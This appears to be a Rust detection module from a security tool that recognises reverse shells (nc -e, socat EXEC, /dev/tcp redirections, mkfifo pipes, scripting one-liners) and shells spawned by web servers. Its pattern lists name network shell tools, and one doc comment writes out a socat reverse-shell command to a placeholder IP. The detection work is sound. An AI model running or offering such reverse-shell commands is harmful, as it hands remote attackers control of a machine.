//! Shells that somebody far away types into.
use super::{
    inline,
    names::{Interpreter, does_as_told, interpreter, is_netcat, is_shell},
    words::words_of,
};
use crate::{ProcessEvent, policy::base_name};

/// What gives a reverse shell away: its terminal is a connection, or it is told to make it one.
pub(super) fn reverse(process: &ProcessEvent) -> Option<&'static str> {
    let shell = process.named(does_as_told).is_some();
    let netcat = process.named(is_netcat).is_some();
    let socat = process.named(|name| name.starts_with("socat")).is_some();
    if process.facts.socket_as_terminal && (shell || netcat || socat) {
        return Some("socket as terminal");
    }
    let arguments = process.own_arguments();
    if netcat && gives_a_program(arguments) {
        return Some("nc -e");
    }
    if socat && connects_a_program(arguments) {
        return Some("socat EXEC");
    }
    if shell {
        return arguments.iter().find_map(|argument| piped(argument)).or_else(|| one_liner(process));
    }
    None
}

/// `nc -e PROGRAM`, `ncat --exec PROGRAM`, `nc -c COMMAND`, and `e` or `c` at the end of other letters (`-lvpe`).
fn gives_a_program(arguments: &[String]) -> bool {
    let gives = |argument: &String| {
        let long = ["--exec", "--sh-exec", "--lua-exec"].iter().any(|option| argument.starts_with(option));
        let letters = argument.strip_prefix('-').filter(|letters| !letters.starts_with('-'));
        long || letters.is_some_and(|letters| {
            letters.bytes().all(|byte| byte.is_ascii_alphanumeric()) && letters.ends_with(['e', 'c'])
        })
    };
    arguments.iter().any(gives)
}

/// `socat TCP:203.0.113.9:4444 EXEC:/bin/sh`: one end is a program and the other the network.
fn connects_a_program(arguments: &[String]) -> bool {
    let end = |kinds: &'static [&str]| {
        let is = move |argument: &String| {
            kinds.iter().any(|kind| argument.get(..kind.len()).is_some_and(|head| head.eq_ignore_ascii_case(kind)))
        };
        arguments.iter().any(is)
    };
    end(&["EXEC:", "SYSTEM:", "SHELL:"])
        && end(&["TCP", "UDP", "OPENSSL", "SSL", "SCTP", "SOCKS", "PROXY", "IP4", "IP6"])
}

/// What a shell does to make a connection its terminal: bash's own device, or a pipe through a netcat.
fn piped(text: &str) -> Option<&'static str> {
    let device = ["/dev/tcp", "/dev/udp"].into_iter().find(|device| reaches_out(text, device));
    let reads = || ["0>&1", "<&", "while read", "| sh", "|sh", "| bash", "|bash", "eval", "sh <"];
    let interactive = || words_of(text).any(|word| matches!(word, "-i" | "-il" | "-li"));
    if device.is_some() && (interactive() || reads().iter().any(|mark| text.contains(mark))) {
        return device;
    }
    let pipe = text.contains('|') && (text.contains("mkfifo") || text.contains("mknod"));
    let reaches = |word: &str| is_netcat(base_name(word)) || matches!(base_name(word), "telnet" | "s_client" | "socat");
    (pipe && words_of(text).any(reaches)).then_some("mkfifo and nc")
}

/// True when bash's device leads to another machine. To ask a port of one's own by it is how containers without other
/// tools check their health.
fn reaches_out(text: &str, device: &str) -> bool {
    let host =
        |from: usize| text[from + device.len()..].strip_prefix('/').map(|rest| rest.split('/').next().unwrap_or(rest));
    let mut hosts = text.match_indices(device).filter_map(|(at, _)| host(at));
    hosts.any(|host| !(host.starts_with("127.") || matches!(host, "localhost" | "::1" | "[::1]" | "0.0.0.0" | "0")))
}

/// Code on a command line that makes a connection and gives a shell to it.
fn one_liner(process: &ProcessEvent) -> Option<&'static str> {
    let language = process.names().into_iter().find_map(interpreter)?;
    let told = language == Interpreter::Awk || inline::mark(process).is_some();
    let (connects, gives, mark) = marks(language);
    let any = |code: &String, marks: &[&str]| marks.iter().any(|mark| code.contains(mark));
    let gives_shell = |code: &String| any(code, connects) && any(code, gives);
    (told && process.own_arguments().iter().any(gives_shell)).then_some(mark)
}

/// What a language connects with, what it starts programs with, and what the two are called.
fn marks(language: Interpreter) -> (&'static [&'static str], &'static [&'static str], &'static str) {
    match language {
        Interpreter::Python => (
            &["socket"],
            &["dup2", "pty.spawn", "/bin/sh", "/bin/bash", "subprocess", "os.system", "os.popen"],
            "python one-liner",
        ),
        Interpreter::Perl => {
            (&["Socket", "socket("], &["exec", "/bin/sh", "/bin/bash", "STDIN", "system"], "perl one-liner")
        }
        Interpreter::Ruby => (
            &["TCPSocket", "Socket.tcp", "rsocket"],
            &["exec", "spawn", "popen", "/bin/sh", "/bin/bash", "to_i", "`", "%x"],
            "ruby one-liner",
        ),
        Interpreter::Node => (
            &["net.connect", "net.Socket", "require('net')", "require(\"net\")", "node:net", "Deno.connect"],
            &["child_process", "spawn", "/bin/sh", "/bin/bash", "Deno.Command"],
            "node one-liner",
        ),
        Interpreter::Php => (
            &["fsockopen", "socket_create", "stream_socket_client"],
            &["exec", "proc_open", "popen", "system", "passthru", "/bin/sh", "`"],
            "php one-liner",
        ),
        Interpreter::Lua => (&["socket"], &["execute", "popen", "/bin/sh"], "lua one-liner"),
        Interpreter::Awk => (&["/inet/tcp", "/inet/udp", "/inet4/", "/inet6/"], &["getline", "|&"], "awk one-liner"),
        Interpreter::PowerShell => {
            (&["TCPClient", "TcpClient"], &["iex", "Invoke-Expression", "Process"], "powershell one-liner")
        }
    }
}

/// The web server under which a shell or an interpreter starts.
///
/// Servers start their own kind and what CGI asks for, but never a shell, unless the code that they serve does. What stands
/// between them and the program does not hide them: shells, interpreters and programs that start others are looked
/// through. A JVM and uWSGI count for shells alone. Node and Python are not counted: `npm start` is a shell under node,
/// and nothing tells a server from a script there.
pub(super) fn web(process: &ProcessEvent) -> Option<&str> {
    if process.main {
        return None;
    }
    process.named(does_as_told)?;
    let above = process.facts.ancestors.iter().map(String::as_str);
    let above = above.chain(process.facts.ancestors.is_empty().then_some(process.parent_path.as_str()));
    let names = above.map(|path| base_name(path.strip_suffix(" (deleted)").unwrap_or(path)));
    let server = names.into_iter().find(|name| !passes_on(name))?;
    let shell = process.named(is_shell).is_some();
    (serves_pages(server) || (shell && serves_applications(server))).then_some(server)
}

/// Programs that start others and stand between them and the one that asked.
fn passes_on(name: &str) -> bool {
    does_as_told(name)
        || matches!(
            name,
            "busybox" | "toybox" | "env" | "timeout" | "nohup" | "setsid" | "nice" | "xargs" | "sudo" | "su"
        )
        || matches!(
            name,
            "stdbuf" | "script" | "unshare" | "chroot" | "setpriv" | "gosu" | "su-exec" | "find" | "ionice"
        )
}

fn serves_pages(name: &str) -> bool {
    let family = name.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.');
    matches!(
        family,
        "nginx" | "apache" | "httpd" | "apache2" | "lighttpd" | "openresty" | "caddy" | "litespeed" | "lshttpd"
    ) || matches!(
        family,
        "lsphp" | "php-fpm" | "php-cgi" | "hhvm" | "h2o" | "tomcat" | "frankenphp" | "unitd" | "angie"
    )
}

fn serves_applications(name: &str) -> bool {
    matches!(name, "java" | "uwsgi" | "uwsgi-core" | "jsvc")
}
